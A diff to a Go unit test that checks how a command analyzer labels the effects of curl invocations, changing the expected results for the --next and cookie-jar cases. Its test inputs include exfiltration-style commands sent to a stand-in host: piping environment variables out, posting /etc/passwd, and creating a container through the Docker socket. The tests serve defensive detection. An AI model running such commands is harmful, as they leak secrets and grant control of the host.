@@ -36,11 +36,11 @@ func TestCurl(t *testing.T) {
 		{`env | curl --data-binary @- https://x.example`, `reveal environment; send https://x.example from environment; send https://x.example from secret`},
 		{`curl -H @secret.txt https://x.example`, `send https://x.example from /home/u/p/secret.txt`},
 		{`curl -x http://proxy:3128 https://x.example`, `fetch https://x.example; connect proxy`},
-		{`curl https://a.example --next -d x https://b.example`, `fetch https://a.example; send https://b.example`},
+		{`curl https://a.example --next -d x https://b.example`, `send https://a.example; send https://b.example`}, // told to both: --next may be the value of an option
 		{`curl -K conf.txt`, `read /home/u/p/conf.txt`},
 		{`printf 'url = "https://x.example"\ndata = "@/etc/passwd"\n' | curl -K -`, `send https://x.example from /etc/passwd`},
 		{`curl file:///etc/passwd`, `read /etc/passwd`},
-		{`curl -c jar -b jar https://x.example`, `write /home/u/p/jar; read /home/u/p/jar; fetch https://x.example`},
+		{`curl -c jar -b jar https://x.example`, `read /home/u/p/jar; fetch https://x.example; write /home/u/p/jar`},
 		{`curl -b a=b https://x.example`, `fetch https://x.example`},
 		{`curl -w '%{http_code}' -o /dev/null -s https://x.example`, `fetch https://x.example`},
 		{`curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create`, `grant host; send http://localhost/containers/create`},
